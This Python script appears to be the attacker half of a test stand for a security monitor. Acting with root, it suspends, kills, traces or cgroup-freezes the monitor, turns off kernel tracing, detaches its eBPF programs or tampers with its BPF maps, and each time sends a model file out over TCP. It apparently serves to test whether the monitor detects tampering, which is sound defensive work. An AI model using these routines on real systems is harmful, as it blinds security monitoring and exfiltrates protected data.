"""Somebody with root who turns on the monitor itself.

    agent.py stop|kill|trace|freeze|freeze_v1|freeze_elsewhere|kill_group|detach|empty_maps|change_maps|deaf
"""

import ctypes
import os
import platform
import signal
import struct
import sys
import time

import send
import stand

MONITOR = int(os.environ.get("STAND_MONITOR", "0"))
BPF = {"x86_64": 321, "aarch64": 280}.get(platform.machine(), 0)
MAP_LOOKUP_ELEM, MAP_UPDATE_ELEM, MAP_DELETE_ELEM, MAP_GET_FD_BY_ID = 1, 2, 3, 14
LINK_GET_NEXT_ID, LINK_GET_FD_BY_ID, LINK_DETACH = 31, 30, 34
MAP_GET_NEXT_ID = 12


def bpf(command: int, packed: bytes) -> tuple[int, bytes]:
    area = ctypes.create_string_buffer(packed.ljust(128, b"\0"), 128)
    result = stand.libc.syscall(ctypes.c_long(BPF), command, area, 128)
    return result, area.raw


def ids(command: int) -> list[int]:
    found, last = [], 0
    while True:
        result, area = bpf(command, struct.pack("=I", last))
        if result < 0:
            return found
        last = struct.unpack_from("=I", area, 4)[0]
        found.append(last)


def own(kind: str) -> set[int]:
    """Ids of BPF objects that the monitor holds, from /proc."""
    held = set()
    for entry in os.listdir(f"/proc/{MONITOR}/fdinfo"):
        try:
            with open(f"/proc/{MONITOR}/fdinfo/{entry}") as file:
                for line in file:
                    if line.startswith(f"{kind}:"):
                        held.add(int(line.split()[1]))
        except OSError:
            continue
    return held


def steal() -> None:
    data = stand.read_all(stand.MODEL)
    stand.say("sent", bytes=send.tcp(data))


def stop() -> None:
    os.kill(MONITOR, signal.SIGSTOP)
    stand.say("stopped")
    steal()
    time.sleep(1)
    os.kill(MONITOR, signal.SIGCONT)


def kill() -> None:
    os.kill(MONITOR, signal.SIGKILL)
    stand.say("killed")
    # A new one has started by then.
    stand.listen()
    steal()


def trace() -> None:
    attached = stand.libc.ptrace(16, MONITOR, None, None)
    stand.check(attached, "attach")
    os.waitpid(MONITOR, 0)
    stand.libc.ptrace(17, MONITOR, None, None)
    stand.say("traced")


def group() -> str:
    """The directory of the monitor's cgroup (version 2)."""
    with open(f"/proc/{MONITOR}/cgroup") as file:
        own = next(line[3:].strip() for line in file if line.startswith("0::"))
    assert own != "/", "the monitor has no cgroup of its own"
    mounts = ("/sys/fs/cgroup", "/sys/fs/cgroup/unified")
    mount = next(path for path in mounts if os.path.exists(f"{path}/cgroup.controllers"))
    return mount + own


def write(path: str, text: str) -> None:
    with open(path, "w") as file:
        file.write(text)


def freeze() -> None:
    """By the monitor's own cgroup."""
    switch = f"{group()}/cgroup.freeze"
    write(switch, "1")
    stand.say("froze")
    try:
        steal()
        time.sleep(1)
    finally:
        write(switch, "0")


def freeze_elsewhere() -> None:
    """The monitor is moved into a cgroup that is frozen already."""
    home = group()
    place = os.path.join(os.path.dirname(home), "cold")
    os.makedirs(place)
    write(f"{place}/cgroup.freeze", "1")
    write(f"{place}/cgroup.procs", str(MONITOR))
    stand.say("froze")
    try:
        steal()
        time.sleep(1)
    finally:
        write(f"{place}/cgroup.freeze", "0")
        write(f"{home}/cgroup.procs", str(MONITOR))
        os.rmdir(place)


def freeze_v1() -> None:
    """By the freezer of cgroup version 1, which has a hierarchy of its own."""
    mount = "/sys/fs/cgroup/freezer"
    if not os.path.exists(f"{mount}/cgroup.procs"):
        mount = os.path.join(stand.ROOM, "freezer")
        os.makedirs(mount)
        kind = b"cgroup"
        if stand.libc.mount(kind, mount.encode(), kind, 0, b"freezer") < 0:
            stand.cannot(f"freezer: {os.strerror(ctypes.get_errno())}")
    place = f"{mount}/gpuwarden-cold"
    os.makedirs(place)
    write(f"{place}/cgroup.procs", str(MONITOR))
    try:
        with open(f"{place}/freezer.state", "w") as file:
            stand.say("froze")
            file.write("FROZEN")
        steal()
        write(f"{place}/freezer.state", "THAWED")
        # Who reads where the monitor is, to tell whose file that was, is the monitor.
        time.sleep(2)
    finally:
        write(f"{place}/freezer.state", "THAWED")
        write(f"{mount}/cgroup.procs", str(MONITOR))
        stand.wait_until(lambda: not open(f"{place}/cgroup.procs").read(), "an empty cgroup")
        os.rmdir(place)
        if mount.startswith(stand.ROOM):
            stand.check(stand.libc.umount(mount.encode()), "umount")


def kill_group() -> None:
    """Ends everybody in the monitor's cgroup at once."""
    switch = f"{group()}/cgroup.kill"
    if not os.path.exists(switch):
        stand.cannot("this kernel has no cgroup.kill")
    with open(switch, "w") as file:
        stand.say("opened")
        # The monitor hears of the open. Nobody who means it would wait.
        time.sleep(2)
        file.write("1")
    stand.say("killed")
    # A new one has started by then.
    stand.listen()
    steal()


def deaf() -> None:
    """Switches the kernel's tracing off, and on again."""
    for switch in ("/sys/kernel/tracing/tracing_on", "/proc/sys/kernel/ftrace_enabled"):
        if not os.path.exists(switch):
            continue
        stand.say("deafened", switch=switch)
        try:
            write(switch, "0")
            write(switch, "1")
        except OSError as error:
            stand.say("refused", why=error.strerror)


def detach() -> None:
    """Takes the monitor's programs off their hooks, one by one."""
    links = own("link_id")
    detached = refused = 0
    for link in ids(LINK_GET_NEXT_ID):
        if link not in links:
            continue
        fd, _ = bpf(LINK_GET_FD_BY_ID, struct.pack("=I", link))
        result, _ = bpf(LINK_DETACH, struct.pack("=I", fd))
        detached, refused = detached + (result == 0), refused + (result < 0)
        os.close(fd)
    stand.say("detached", detached=detached, refused=refused)
    if not links:
        sys.exit("the monitor holds no link that /proc shows")


def own_maps():
    """The monitor's maps as descriptors, those that are given out."""
    maps = own("map_id")
    for number in ids(MAP_GET_NEXT_ID):
        fd = bpf(MAP_GET_FD_BY_ID, struct.pack("=II", number, 0))[0] if number in maps else -1
        if fd >= 0:
            yield fd
            os.close(fd)


def empty_maps() -> None:
    """Opens the monitor's maps by their ids, and deletes what it can."""
    opened = 0
    for fd in own_maps():
        opened += 1
        key = ctypes.create_string_buffer(64)
        bpf(MAP_DELETE_ELEM, struct.pack("=IxxxxQ", fd, ctypes.addressof(key)))
    stand.say("opened", maps=opened)
    if not opened:
        sys.exit("none of the monitor's maps could be opened")


def change_maps() -> None:
    """Writes into the monitor's maps: what they hold already, so that nothing else happens."""
    changed = 0
    for fd in own_maps():
        key, value = (ctypes.create_string_buffer(size) for size in (64, 1 << 16))
        element = struct.pack("=IxxxxQQQ", fd, ctypes.addressof(key), ctypes.addressof(value), 0)
        if bpf(MAP_LOOKUP_ELEM, element)[0] == 0:
            changed += bpf(MAP_UPDATE_ELEM, element)[0] == 0
    stand.say("changed", maps=changed)
    if not changed:
        sys.exit("none of the monitor's maps could be changed")


def main() -> None:
    stand.wait_for_go()
    globals()[sys.argv[1]]()


if __name__ == "__main__":
    main()
